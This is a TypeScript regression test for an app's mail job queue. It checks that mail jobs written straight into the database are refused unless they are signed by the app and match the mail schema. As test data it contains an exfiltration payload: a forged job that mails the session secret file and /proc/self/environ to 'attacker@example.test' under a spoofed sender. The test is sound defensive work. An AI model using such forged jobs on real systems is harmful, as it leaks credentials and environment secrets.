import { sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { smtpServer, type ReceivedMail } from "../support/smtp";

/**
 * Issue 52: the app's database login may write into the job queue, and a mail job's data went to
 * the mailer as it stood: a row naming a From and attachments by path mailed the session secret
 * and the process environment out. Jobs are data now: signed by the app with a key the database
 * never holds, and checked against their job's schema before they run. Checked at a real SMTP
 * server, not only the outbox: each of the two Vitest passes (databases) has its own port.
 */
const SMTP_PORT = process.env.TEST_DATABASE === "postgres" ? 17242 : 17241;
vi.hoisted(() => {
  process.env.SMTP_URL = `smtp://127.0.0.1:${process.env.TEST_DATABASE === "postgres" ? 17242 : 17241}`;
});

const { closeDatabase, getDb } = await import("@/lib/db");
const { sendMail } = await import("@/lib/mail");
const { signedJob } = await import("@/lib/jobs");
const { config } = await import("@/lib/config");
const { runJobWorkers } = await import("../support/jobs");

const received: ReceivedMail[] = [];
const smtp = smtpServer((mail) => received.push(mail));
beforeAll(() => new Promise<void>((resolve) => smtp.listen(SMTP_PORT, "127.0.0.1", resolve)));
afterAll(() => new Promise<void>((resolve) => smtp.close(() => resolve())));
afterAll(closeDatabase);
runJobWorkers();

const ATTACKER = "attacker@example.test";

/** A job written straight into the queue with the app's own database login, as an insider would. */
async function insertedJob(data: object): Promise<string> {
  const db = await getDb();
  const { rows } = await db.execute<{ id: string }>(sql`insert into pgboss.job (name, data) values ('mail.send', ${JSON.stringify(data)}::jsonb) returning id`);
  return rows[0].id;
}

async function refusalOf(id: string): Promise<string | undefined> {
  const db = await getDb();
  const { rows } = await db.execute<{ refused: string | null }>(sql`select output ->> 'refused' as refused from pgboss.job where id = ${id}`);
  return rows[0]?.refused ?? undefined;
}

describe("a mail job the app did not write", () => {
  it("is refused without sending anything: a From and attachments by path, unsigned; a signed job's data changed; a signed job that is no mail", { timeout: 60_000 }, async () => {
    const exfiltration = {
      to: ATTACKER,
      from: "Olympiad Payouts <payouts@example.test>",
      subject: "Statement",
      text: "Attached.",
      attachments: [{ path: config.auth.secretFile }, { path: "/proc/self/environ" }],
    };
    const legitimate = { to: "winner@example.test", subject: "Your prize", text: "Congratulations." };
    const forged = {
      unsigned: await insertedJob(exfiltration),
      // A signature the app made, moved onto other data: the same mail to another recipient.
      redirected: await insertedJob({ ...signedJob("mail.send", legitimate), to: ATTACKER }),
      withAttachments: await insertedJob({ ...signedJob("mail.send", legitimate), attachments: [{ path: "/proc/self/environ" }] }),
      // Signed as the app would sign it, but not of a mail's shape: the schema refuses it.
      notAMail: await insertedJob(signedJob("mail.send", { ...legitimate, from: "Olympiad Payouts <payouts@example.test>" } as never)),
    };
    // Queued after them: once it has arrived, the forged jobs were fetched before it.
    await sendMail({ to: "control@example.test", subject: "Control", text: "Sent by the app." });

    await vi.waitFor(() => expect(received.map((mail) => mail.to)).toContainEqual(["control@example.test"]), { timeout: 20_000, interval: 100 });
    await vi.waitFor(
      async () => {
        const refusals = Object.fromEntries(await Promise.all(Object.entries(forged).map(async ([name, id]) => [name, await refusalOf(id)])));
        expect(refusals).toEqual({
          unsigned: "not signed by the app",
          redirected: "its signature does not match its data",
          withAttachments: "its signature does not match its data",
          notAMail: "not a mail.send job: from",
        });
      },
      { timeout: 20_000, interval: 100 },
    );
    expect(received.filter((mail) => mail.to.includes(ATTACKER) || mail.raw.includes("Payouts"))).toEqual([]);
    expect(received.filter((mail) => mail.to.includes("winner@example.test"))).toEqual([]);
    expect(received.find((mail) => mail.to.includes("control@example.test"))?.from).toBe(config.mail.from.match(/<(.+)>/)?.[1] ?? config.mail.from);
  });
});
